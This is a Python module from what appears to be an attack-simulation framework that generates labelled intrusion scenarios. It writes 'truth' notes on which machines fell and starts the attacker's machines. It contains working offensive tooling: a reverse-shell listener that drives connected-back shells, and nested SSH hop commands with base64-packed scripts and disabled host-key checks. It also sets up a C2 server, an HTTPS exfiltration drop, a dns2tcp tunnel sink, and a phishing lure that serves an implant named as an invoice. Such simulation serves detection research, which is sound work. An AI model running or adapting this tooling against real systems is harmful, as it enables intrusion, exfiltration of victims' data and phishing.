# SPDX-License-Identifier: GPL-2.0-or-later
"""What both intruders need: a notebook for the truth, a reverse shell, hops over SSH.

Every tool of an intruder runs under `rec` on the machine it runs on; here only what a
tool's record can't say is noted: which machine fell, when and how.
"""

import base64
import json
import pathlib
import shlex
import shutil
import socket
import subprocess
import threading
import time

from . import breakin, c2, cloud, servers, topology

SSH = ("ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8 "
       "-o PreferredAuthentications=%s")


class Notebook:
    def __init__(self, agent):
        self.agent = agent
        self.begin = agent.start + agent.parameters["baseline"]
        self.end = self.begin + agent.parameters["attack"]

    def at(self, seconds):
        """Sleeps until so many seconds of the attack have passed, scaled to its length."""
        due = self.begin + seconds * self.agent.parameters["attack"] / 450.0
        time.sleep(max(0.0, due - time.time()))

    def write(self, row):
        with open("/mnt/truth/notes.jsonl", "a") as notes:
            notes.write(json.dumps(row) + "\n")

    def compromised(self, name, how, since=None):
        self.write({"compromised": name, "how": how, "since": since or time.time()})

    def say(self, what, output):
        with open("/mnt/truth/console.log", "a") as console:
            console.write("== %.1f %s\n%s\n" % (time.time() - self.begin, what, output))

    def tool(self, *command):
        done = subprocess.run(command, capture_output=True, text=True, env={**self.agent.environment, "PATH": PATH},
                              cwd="/tmp")
        self.say(" ".join(command)[:200], done.stdout + done.stderr)
        return done.stdout


PATH = "/mnt/bin:/usr/sbin:/usr/bin:/sbin:/bin"


class ReverseShell:
    """Waits for one shell that connects back, then runs commands in it."""

    def __init__(self, port, book):
        self.book = book
        self.listener = socket.create_server(("0.0.0.0", port), reuse_port=False)
        self.peer = None

    def accept(self, timeout):
        self.listener.settimeout(timeout)
        self.peer, _ = self.listener.accept()
        self.peer.settimeout(None)
        self.stream = self.peer.makefile("r", errors="replace")
        self.run("export PATH=%s HOSTNAME; cd /tmp" % PATH)

    def run(self, script):
        mark = "_%d_" % time.monotonic_ns()
        self.peer.sendall(("%s\necho %s\n" % (script, mark)).encode())
        lines = []
        for line in self.stream:
            if mark in line:
                break
            lines.append(line)
        self.book.say(script[:300], "".join(lines))
        return "".join(lines)


def hop(address, login, script, password=None, key=None, what="ssh"):
    """A shell line that runs `script` on another machine over SSH; may be nested."""
    packed = base64.b64encode(("export PATH=%s HOSTNAME\n%s\n" % (PATH, script)).encode()).decode()
    if password:
        login_by = "sshpass -p %s %s" % (shlex.quote(password), SSH % "password")
    else:
        login_by = "%s -i %s" % (SSH % "publickey", key)
    return "echo %s | base64 -d | rec '%s' tcp - %s:22 %s %s@%s bash -s" % (
        packed, what, address, login_by, login, address)


# -- the intruder's machines ---------------------------------------------------

def operate(agent):
    book = Notebook(agent)
    try:
        {"breakin": breakin.operate, "cloud": cloud.operate}[agent.agency.scenario](agent, book)
        book.write({"finished": time.time()})
    except Exception as error:
        book.write({"failed": repr(error)})
        raise


def intruder(agent):
    if agent.agency.scenario == "cloud":
        agent.control = c2.Server(cloud.PORT, cloud.PAGE, cloud.IMPLANT)


def control(agent):
    servers.certificate(agent, ["assets-cdn.example"])
    c2.Server(443, breakin.PAGE, breakin.IMPLANT, tls=True)


def drop(agent):
    """The exfiltration host: takes PUTs over HTTPS and keeps them."""
    servers.certificate(agent, ["media-upload.example"])
    servers.receive(agent, "/srv/drop", ("v",))
    servers.nginx(agent, ["server { listen 443 ssl; client_max_body_size 8m; location / { root /srv/drop; "
                          "dav_methods PUT; create_full_put_path on; } }"])


def tunnel(agent):
    """A dns2tcp server, and behind it a sink on the loopback that keeps what comes through."""
    kept = pathlib.Path("/mnt/received") / agent.host.name
    kept.mkdir(parents=True, exist_ok=True)
    sink = socket.create_server(("127.0.0.1", 9000))

    def collect():
        for n in range(1000):
            peer, _ = sink.accept()
            with peer, open(kept / ("stream-%d" % n), "wb", buffering=0) as out:
                while data := peer.recv(4096):
                    out.write(data)
    threading.Thread(target=collect, daemon=True).start()
    pathlib.Path("/run/dns2tcpd.conf").write_text(
        "listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = %s\nresources = drop:127.0.0.1:9000\n"
        % next(iter(topology.DELEGATIONS["breakin"])))
    agent.daemon("dns2tcpd", "/usr/bin/dns2tcpd", "-F", "-f", "/run/dns2tcpd.conf")


def lure(agent):
    """Serves the phishing payload over HTTPS: the implant, under an invoice's name."""
    servers.certificate(agent, ["docs-share.example"])
    root = pathlib.Path("/srv/lure")
    root.mkdir()
    (root / "invoice-4471.sh").write_text(c2.implant_code(cloud.IMPLANT))
    shutil.chown(root, servers.WWW_DATA)
    servers.nginx(agent, ["server { listen 443 ssl; root /srv/lure; }"])


START = {"intruder": intruder, "c2": control, "drop": drop, "tunnel": tunnel, "lure": lure}
